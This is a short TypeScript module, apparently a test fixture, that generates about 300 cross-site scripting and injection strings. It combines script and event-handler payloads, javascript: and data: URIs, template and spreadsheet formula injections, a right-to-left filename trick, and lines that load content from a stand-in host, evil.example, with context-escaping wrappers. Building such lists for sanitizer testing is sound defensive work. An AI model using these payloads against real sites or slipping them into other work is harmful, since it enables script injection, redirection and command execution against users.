/** texts that become something else wherever a text is taken for markup, script or address. */
const MARKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<input autofocus onfocus=alert(1)>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<math><mtext></mtext><mglyph><style><img src onerror=alert(1)></style></mglyph></math>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<marquee onstart=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '\u202egnp.exe',
  '=cmd|"/c calc"!A1',
  "';alert(1);//",
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<x contenteditable onblur=alert(1) tabindex=0>x</x>',
];

const AROUND: readonly ((mark: string) => string)[] = [
  (mark) => mark,
  (mark) => `">${mark}`,
  (mark) => `'>${mark}`,
  (mark) => `</script>${mark}`,
  (mark) => `</title></style></textarea>${mark}`,
  (mark) => `-->${mark}<!--`,
  (mark) => mark.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (mark) => mark.toUpperCase(),
  (mark) => `\u2028${mark}\u2029`,
  (mark) => mark.replaceAll('<', '\uff1c'),
];

const ALL = MARKS.flatMap((mark) => AROUND.map((around) => around(mark)));

/** Three hundred different ones. */
export const PAYLOADS: readonly string[] = [...new Set(ALL)].slice(0, 300);
